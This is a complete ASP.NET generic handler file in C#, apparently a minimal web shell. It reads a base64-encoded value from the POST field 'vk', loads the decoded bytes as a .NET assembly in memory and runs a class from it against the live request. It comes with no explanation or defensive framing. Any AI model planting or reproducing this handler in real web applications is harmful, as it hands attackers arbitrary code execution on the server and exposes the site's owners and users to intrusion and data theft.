<%@ WebHandler Language="C#" Class="H" %>
public class H : System.Web.IHttpHandler {
  public void ProcessRequest(System.Web.HttpContext c) {
    var b = System.Convert.FromBase64String(c.Request.Form["vk"]);
    System.Reflection.Assembly.Load(b).CreateInstance("P").Equals(c);
  }
  public bool IsReusable { get { return false; } }
}
